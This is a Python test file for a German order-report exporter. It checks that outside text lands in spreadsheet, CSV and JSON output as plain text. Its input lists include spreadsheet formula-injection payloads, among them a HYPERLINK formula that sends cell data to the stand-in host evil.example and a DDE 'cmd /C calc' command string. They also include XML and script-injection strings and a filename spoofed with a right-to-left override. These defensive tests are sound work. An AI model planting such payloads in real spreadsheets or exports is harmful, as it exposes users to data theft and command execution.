"""Texts from outside in cells: they are texts, whatever they look like, and nothing of them vanishes silently."""

from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from orders.deviations import DeviationCode
from orders.message import Message
from reports.cell_text import MAX_UNITS, cell_text, utf16_units
from reports.csv_table import harmless
from reports.workbook.canvas import Refused
from reports.workbook.cells import inline_string
from tests.reports.trade import arrivals, case, deviation, edition, line, order
from tests.reports.written import csv_rows, json_rows, links, read_workbook, sheet_rows, write_folder, write_workbook

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "http://evil.example/",
    "internal:'Bestellungen'!A1",
    "mailto:a@b.example",
]
MARKUP = [
    "<r></r></t></is></c><c><f>1+1</f></c><c><is><t><r></r>",
    "<r><t>bold</t></r>",
    "<script>alert(1)</script>",
    "]]><!--",
    "&lt;&amp;",
    "_x0041_",
    "_x003D_1+1",
    "' onmouseover='",
]


def everywhere(text: str) -> list[Any]:
    """Entries with `text` in every field that comes from outside."""
    one = line(text[:50], name=text, description=text, buyer_item=text, supplier_item=text, unit=text)
    whole = order(text, one, supplier=text, buyer=text, currency=text)
    stake = deviation(
        DeviationCode.PRICE_OVER,
        order=whole.id,
        order_number=text,
        order_line=text[:50],
        document="d",
        document_number=text,
        document_line=text,
        currency=text,
        amount=Decimal(10),
        message=Message("remark.override", {"decision": text, "status": text}),
    )
    (file,) = arrivals(1)
    changes = {
        "name": text,
        "message": text,
        "code": text,
        "documents": (("invoice", text),),
        "id": text,
        "sha256": text,
    }
    return [
        case(whole, deviations=(stake,)),
        type(file)(**{slot: getattr(file, slot) for slot in file.__slots__} | changes),
    ]


def test_hostile_S30_and_S41_a_text_is_a_text_in_every_cell(tmp_path: Path) -> None:
    texts = [*FORMULAS, *MARKUP]
    workbook = read_workbook(tmp_path, [entry for text in texts for entry in everywhere(text)])
    cells = [cell for sheet in workbook for row in sheet for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {link.location or link.target for sheet in workbook for link in links(sheet)}.isdisjoint(texts)
    for name in ("Bestellungen", "Offene Positionen", "Klärfälle", "Dateien"):
        found = {value for row in calamine_rows(tmp_path, name) for value in row}
        assert set(texts) <= found, name


def calamine_rows(folder: Path, sheet: str) -> list[list[Any]]:
    """The rows below the heading, by another reader than openpyxl."""
    return CalamineWorkbook.from_path(folder / "report.xlsx").get_sheet_by_name(sheet).to_python()[1:]


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP])
def test_hostile_S30_no_sheet_holds_a_formula_element(tmp_path: Path, text: str) -> None:
    with ZipFile(write_workbook(tmp_path, everywhere(text))) as archive:
        for name in archive.namelist():
            root = ElementTree.fromstring(archive.read(name))  # noqa: S314 - our own file
            if name.startswith("xl/worksheets/sheet"):
                assert [element.text for element in root.iter() if element.tag.endswith("}f")] == []


def test_hostile_S31_control_characters_are_replaced_where_they_stood(tmp_path: Path) -> None:
    (row,) = sheet_rows(read_workbook(tmp_path, everywhere("a\x00b\x08c\x1bd\x85e\ud800f\uffffg"))["Dateien"])
    assert row["Datei"] == "a�b�c�d e�f�g"


def test_hostile_S31_a_line_break_becomes_a_blank(tmp_path: Path) -> None:
    (row,) = sheet_rows(read_workbook(tmp_path, everywhere("a\r\nb\nc\td"))["Dateien"])
    assert row["Datei"] == "a b c d"


def test_hostile_S39_a_direction_override_is_shown_as_what_it_is(tmp_path: Path) -> None:
    (row,) = sheet_rows(read_workbook(tmp_path, everywhere("rechnung\u202elmx.exe"))["Dateien"])
    assert row["Datei"] == "rechnung�lmx.exe"


def test_hostile_S31_a_text_that_is_too_long_is_cut_and_says_so(tmp_path: Path) -> None:
    (row,) = sheet_rows(read_workbook(tmp_path, everywhere("x" * 40_000))["Dateien"])
    assert len(row["Datei"]) == MAX_UNITS
    assert row["Datei"].endswith("x … [gekürzt, 40000 Zeichen]")


@given(st.text(), st.integers(0, 3))
def test_a_cell_text_fits_a_cell_and_cleaning_it_again_changes_nothing(text: str, times: int) -> None:
    text = text + "😀x" * (12_000 * times)
    cleaned = cell_text(text, " … [{0}]")
    assert utf16_units(cleaned) <= MAX_UNITS
    assert cell_text(cleaned, " … [{0}]") == cleaned


@given(st.text(max_size=200))
@settings(max_examples=300)
def test_an_inline_string_is_sound_xml_that_says_what_the_text_says(text: str) -> None:
    root = ElementTree.fromstring(f"<c>{inline_string(text, '')}")  # noqa: S314 - our own output
    assert [child.tag for child in root] == ["is"]
    said = (root.findtext("is/t") or "").replace("_x005F_", "_")
    assert said == cell_text(text, "")


@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
@settings(max_examples=25, deadline=None)
def test_any_text_comes_back_from_the_workbook_as_it_went_in(tmp_path_factory: Any, texts: list[str]) -> None:
    folder = tmp_path_factory.mktemp("texts")
    entries = [entry for text in texts for entry in everywhere(text)[1:]]
    path = write_workbook(folder, entries)
    found = [row["Datei"] or "" for row in sheet_rows(load_workbook(path)["Dateien"])]
    assert found == [cell_text(text, "") for text in texts]


def test_figures_that_no_spreadsheet_can_hold_do_not_stop_the_report(tmp_path: Path) -> None:
    huge = Decimal("9" * 20)
    one = line(ordered=huge, open_to_receive=huge, unit_price=huge, ordered_amount=huge)
    entries = [case(order("1", one), deviations=(deviation(order="1@werk", amount=huge),))]
    (row,) = sheet_rows(read_workbook(tmp_path, entries)["Offene Positionen"])
    assert row["Bestellt"] == "9" * 20
    write_folder(tmp_path / "tables", entries, edition())
    assert json_rows(tmp_path / "tables" / "open_lines.json")[0]["ordered"] == "9" * 20


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "＝1+1"])
def test_hostile_S30_a_formula_in_csv_begins_with_an_apostrophe(tmp_path: Path, text: str) -> None:
    write_folder(tmp_path, everywhere(text), edition())
    for table in ("orders", "open_lines", "exceptions", "files"):
        (row,) = csv_rows(tmp_path / f"{table}.csv")
        shown = [value for value in row.values() if value.lstrip("'").strip() == text.strip()]
        assert shown
        assert all(value.startswith("'") for value in shown)


@pytest.mark.parametrize("text", ["-5", "+49", "-12.50", "-1.234,56", "4500017", "A=B"])
def test_a_number_with_a_sign_and_an_ordinary_text_stay_as_they_are_in_csv(text: str) -> None:
    assert harmless(text) == text


@given(st.text(max_size=100))
@settings(max_examples=40, deadline=None)
def test_json_gives_back_every_text_exactly(tmp_path_factory: Any, text: str) -> None:
    folder = tmp_path_factory.mktemp("json")
    write_folder(folder, everywhere(text)[1:], edition())
    (row,) = json_rows(folder / "files.json")
    assert row["file"] == text


def test_a_cell_that_xlsxwriter_refuses_is_an_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("xlsxwriter.worksheet.Worksheet.write_string", lambda *_: -2)
    with pytest.raises(Refused, match="refused"):
        write_workbook(tmp_path, [])
